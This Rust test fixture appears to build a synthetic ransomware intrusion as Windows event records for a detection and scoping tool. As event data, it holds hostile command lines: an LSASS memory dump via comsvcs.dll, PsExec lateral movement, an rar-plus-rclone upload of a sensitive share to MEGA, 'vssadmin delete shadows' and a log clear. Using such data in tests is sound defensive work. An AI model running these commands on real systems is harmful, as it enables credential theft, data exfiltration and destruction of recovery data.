//! The miniature reference scenario, shared by the scenario and schema tests.
#![allow(dead_code)]

use std::path::PathBuf;
use std::sync::Arc;

use chrono::{DateTime, Duration, TimeZone, Utc};
use vigie_detect::{Level, LogSource, Match, RuleKind, RuleMeta};
use vigie_event::{Event, Locator, Origin};
use vigie_scope::*;

pub const ASSETS: &str = r#"
organisation: CC Pen-Ar-Bed (test)
zones:
  - {name: core, critical: true}
  - {name: servers}
  - {name: state-id, critical: true, isolated: true}
hosts:
  - {name: DC01, zone: core, role: domain_controller, services: ["*"]}
  - {name: SRV-RDS01, zone: servers, role: remote_desktop, services: [remote-work], addresses: [10.10.1.30]}
  - {name: SRV-FIC01, zone: servers, role: file_server, services: [social-action]}
  - {name: SRV-BKP01, zone: servers, role: backup_server, services: [backups]}
  - {name: SRV-WEB01, zone: servers, services: [family-portal]}
  - {name: TES-01, zone: state-id, role: isolated_station, services: [passports], addresses: [10.50.0.10]}
accounts:
  - {name: presta.maint, kind: provider, privileged: true, mfa: false}
data_stores:
  - name: CIAS
    host: SRV-FIC01
    path: 'D:\Partages\CIAS'
    share: CIAS
    sensitivity: special_category
    personal_data: true
networks:
  vpn_pools: [10.212.134.0/24]
"#;

pub fn t(day: u32, h: u32, m: u32) -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, day, h, m, 0).unwrap()
}

pub struct B {
    pub events: Vec<(Event, Vec<Match>)>,
    rec: std::collections::HashMap<(String, String), u64>,
}

impl B {
    pub fn new() -> Self {
        B {
            events: vec![],
            rec: Default::default(),
        }
    }
    pub fn ev(
        &mut self,
        time: DateTime<Utc>,
        host: &str,
        channel: &str,
        id: Option<u32>,
        fields: &[(&str, &str)],
    ) -> &mut Event {
        let src = format!("{host}-{}.evtx", channel.replace('/', "_"));
        let r = self.rec.entry((host.into(), channel.into())).or_insert(0);
        *r += 1;
        let mut e = Event::new(Origin {
            source: Arc::from(src.as_str()),
            locator: Locator::Record(*r),
        });
        e.timestamp = Some(time);
        e.computer = Some(format!("{host}.ccpab.local").into());
        e.channel = Some(channel.into());
        e.event_id = id;
        e.record_id = Some(*r);
        if let Some(id) = id {
            e.push("EventID", id as i64);
        }
        e.push("Channel", channel);
        for (k, v) in fields {
            e.push(*k, *v);
        }
        self.events.push((e, vec![]));
        &mut self.events.last_mut().unwrap().0
    }
    pub fn matched(&mut self, r: Arc<RuleMeta>) {
        self.events.last_mut().unwrap().1.push(Match {
            rule: r,
            matched: vec![],
            correlation_values: vec![],
            generate: true,
        });
    }
    /// Skips `n` record ids on (host, channel): a gap.
    pub fn skip(&mut self, host: &str, channel: &str, n: u64) {
        *self.rec.entry((host.into(), channel.into())).or_insert(0) += n;
    }
}

pub fn rule(title: &str, level: Level, tags: &[&str]) -> Arc<RuleMeta> {
    Arc::new(RuleMeta {
        id: Some(format!("id-{}", title.len())),
        name: None,
        title: title.into(),
        kind: RuleKind::Detection,
        level: Some(level),
        status: Some("test".into()),
        description: None,
        author: None,
        tags: tags.iter().map(|s| s.to_string()).collect(),
        references: vec![],
        falsepositives: vec![],
        logsource: LogSource::default(),
        path: "test.yml".into(),
    })
}

pub const SEC: &str = "Security";
pub const SYS: &str = "System";
pub const SYSMON: &str = "Microsoft-Windows-Sysmon/Operational";

/// Background: DC01 and TES-01 log every 30 minutes from day 13 to day 17.
pub fn background(b: &mut B, with_tes: bool) {
    let mut now = t(13, 0, 0);
    while now <= t(17, 0, 0) {
        b.ev(
            now,
            "DC01",
            SEC,
            Some(4768),
            &[("TargetUserName", "agent.a"), ("IpAddress", "10.10.2.15")],
        );
        if with_tes {
            b.ev(
                now,
                "TES-01",
                SEC,
                Some(4624),
                &[
                    ("TargetUserName", "agent.tes"),
                    ("LogonType", "2"),
                    ("IpAddress", "127.0.0.1"),
                ],
            );
        }
        b.ev(now, "SRV-WEB01", SEC, Some(4634), &[]);
        now += Duration::minutes(30);
    }
}

pub fn attack(b: &mut B) {
    // 1. VPN: one failure, then success from 203.0.113.45.
    b.ev(
        t(14, 2, 5),
        "FW01",
        "fortigate",
        None,
        &[
            ("user", "presta.maint"),
            ("remip", "203.0.113.45"),
            ("action", "ssl-login-fail"),
        ],
    );
    b.ev(
        t(14, 2, 10),
        "FW01",
        "fortigate",
        None,
        &[
            ("user", "presta.maint"),
            ("remip", "203.0.113.45"),
            ("action", "tunnel-up"),
            ("tunnelip", "10.212.134.11"),
        ],
    );
    // 2. RDP to SRV-RDS01 from the VPN pool.
    b.ev(
        t(14, 2, 14),
        "SRV-RDS01",
        SEC,
        Some(4624),
        &[
            ("TargetUserName", "presta.maint"),
            ("TargetDomainName", "CCPAB"),
            ("LogonType", "10"),
            ("IpAddress", "10.212.134.11"),
            ("WorkstationName", "DESKTOP-PRESTA"),
        ],
    );
    b.ev(
        t(14, 2, 14),
        "SRV-RDS01",
        "Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational",
        Some(1149),
        &[
            ("Param1", "presta.maint"),
            ("Param2", "CCPAB"),
            ("Param3", "10.212.134.11"),
        ],
    );
    // 3. Discovery.
    b.ev(
        t(14, 2, 20),
        "SRV-RDS01",
        SYSMON,
        Some(1),
        &[
            ("Image", "C:\\Windows\\explorer.exe"),
            ("ProcessGuid", "{G-EXPLORER}"),
            ("ParentProcessGuid", "{G-USERINIT}"),
            ("ParentImage", "C:\\Windows\\System32\\userinit.exe"),
            ("User", "CCPAB\\presta.maint"),
        ],
    );
    b.ev(
        t(14, 2, 25),
        "SRV-RDS01",
        SYSMON,
        Some(1),
        &[
            ("Image", "C:\\Windows\\System32\\cmd.exe"),
            ("ProcessGuid", "{G-CMD}"),
            ("ParentProcessGuid", "{G-EXPLORER}"),
            ("ParentImage", "C:\\Windows\\explorer.exe"),
            ("User", "CCPAB\\presta.maint"),
        ],
    );
    b.ev(
        t(14, 2, 30),
        "SRV-RDS01",
        SYSMON,
        Some(1),
        &[
            ("Image", "C:\\Windows\\System32\\net.exe"),
            ("CommandLine", "net group \"Admins du domaine\" /domain"),
            ("ProcessGuid", "{G-NET}"),
            ("ParentProcessGuid", "{G-CMD}"),
            ("ParentImage", "C:\\Windows\\System32\\cmd.exe"),
            ("User", "CCPAB\\presta.maint"),
        ],
    );
    b.matched(rule(
        "Suspicious Group And Account Reconnaissance Activity Using Net.EXE",
        Level::Medium,
        &["attack.discovery", "attack.t1087.002"],
    ));
    // 5. LSASS dump.
    b.ev(t(14, 2, 40), "SRV-RDS01", SYSMON, Some(1), &[("Image", "C:\\Windows\\System32\\rundll32.exe"), ("CommandLine", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\PerfLogs\\l.dmp full"), ("ProcessGuid", "{G-RUNDLL}"), ("ParentProcessGuid", "{G-CMD}"), ("ParentImage", "C:\\Windows\\System32\\cmd.exe"), ("User", "CCPAB\\presta.maint")]);
    b.matched(rule(
        "Process Memory Dump Via Comsvcs.DLL",
        Level::High,
        &[
            "attack.credential-access",
            "attack.t1003.001",
            "attack.defense-evasion",
            "attack.t1218.011",
        ],
    ));
    // 7. PsExec from SRV-RDS01 (10.10.1.30) to SRV-FIC01 and SRV-BKP01.
    for (i, target) in ["SRV-FIC01", "SRV-BKP01"].iter().enumerate() {
        let m = 3 * i as u32;
        b.ev(
            t(14, 3, m),
            target,
            SEC,
            Some(4624),
            &[
                ("TargetUserName", "presta.maint"),
                ("TargetDomainName", "CCPAB"),
                ("LogonType", "3"),
                ("IpAddress", "10.10.1.30"),
                ("WorkstationName", "SRV-RDS01"),
            ],
        );
        b.ev(
            t(14, 3, m),
            target,
            SEC,
            Some(5145),
            &[
                ("SubjectUserName", "presta.maint"),
                ("SubjectDomainName", "CCPAB"),
                ("ShareName", "\\\\*\\ADMIN$"),
                ("RelativeTargetName", "PSEXESVC.exe"),
                ("IpAddress", "10.10.1.30"),
            ],
        );
        b.ev(
            t(14, 3, m + 1),
            target,
            SYS,
            Some(7045),
            &[
                ("ServiceName", "PSEXESVC"),
                ("ImagePath", "%SystemRoot%\\PSEXESVC.exe"),
                ("AccountName", "LocalSystem"),
            ],
        );
        b.matched(rule(
            "PsExec Service Installation",
            Level::Medium,
            &["attack.execution", "attack.t1569.002"],
        ));
    }
    // 9. CIAS archived and uploaded to MEGA.
    b.ev(
        t(15, 22, 0),
        "SRV-FIC01",
        SYSMON,
        Some(1),
        &[
            ("Image", "C:\\PerfLogs\\rar.exe"),
            (
                "CommandLine",
                "rar.exe a -hpS3cret C:\\PerfLogs\\cias.rar D:\\Partages\\CIAS",
            ),
            ("ProcessGuid", "{G-RAR}"),
            ("User", "CCPAB\\presta.maint"),
        ],
    );
    b.matched(rule(
        "Files Added To An Archive Using Rar.EXE",
        Level::Low,
        &["attack.collection", "attack.t1560.001"],
    ));
    b.ev(
        t(15, 22, 20),
        "SRV-FIC01",
        SYSMON,
        Some(22),
        &[
            ("QueryName", "g.api.mega.co.nz"),
            ("Image", "C:\\PerfLogs\\rclone.exe"),
        ],
    );
    b.ev(
        t(15, 22, 21),
        "SRV-FIC01",
        SYSMON,
        Some(1),
        &[
            ("Image", "C:\\PerfLogs\\rclone.exe"),
            (
                "CommandLine",
                "rclone.exe copy C:\\PerfLogs\\cias.rar mega:depot -q",
            ),
            ("ProcessGuid", "{G-RCLONE}"),
            ("User", "CCPAB\\presta.maint"),
        ],
    );
    b.matched(rule(
        "PUA - Rclone Execution",
        Level::High,
        &["attack.exfiltration", "attack.t1567.002"],
    ));
    // 12. Impact, then the Security log is cleared (records lost).
    b.ev(
        t(16, 1, 0),
        "SRV-FIC01",
        SYSMON,
        Some(1),
        &[
            ("Image", "C:\\Windows\\System32\\vssadmin.exe"),
            ("CommandLine", "vssadmin delete shadows /all /quiet"),
            ("User", "CCPAB\\presta.maint"),
        ],
    );
    b.matched(rule(
        "Shadow Copies Deletion Using Operating Systems Utilities",
        Level::High,
        &["attack.impact", "attack.t1490"],
    ));
    // Ransom notes dropped in several folders by the encryptor.
    for dir in [
        "D:\\Partages\\CIAS",
        "D:\\Partages\\RH",
        "C:\\Users\\Public",
    ] {
        let path = format!("{dir}\\LISEZ-MOI.txt");
        b.ev(
            t(16, 1, 2),
            "SRV-FIC01",
            SYSMON,
            Some(11),
            &[
                ("TargetFilename", path.as_str()),
                ("Image", "C:\\PerfLogs\\locker.exe"),
            ],
        );
    }
    b.skip("SRV-FIC01", SEC, 500);
    b.ev(
        t(16, 1, 5),
        "SRV-FIC01",
        SEC,
        Some(1102),
        &[
            ("SubjectUserName", "presta.maint"),
            ("SubjectDomainName", "CCPAB"),
        ],
    );
}

pub fn assets() -> Arc<Assets> {
    Arc::new(Assets::from_str(ASSETS).expect("test assets parse"))
}

pub fn run(b: &B) -> Scope {
    let mut o = Observer::new(assets());
    for (e, m) in &b.events {
        o.observe(e, m);
    }
    o.finish(&[], Lang::En)
}

pub fn scenario(with_tes: bool) -> B {
    let mut b = B::new();
    background(&mut b, with_tes);
    attack(&mut b);
    b
}

/// The shared test corpus (`VIGIE_CORPUS`, default `../shared/corpus`
/// beside the workspace), or `None` with a "skipped" line when it is
/// missing; under `CI=true` a missing corpus fails the test.
pub fn corpus() -> Option<PathBuf> {
    vigie_testkit::corpus(&["evtx-attack-samples", "sigma/rules/windows"])
}
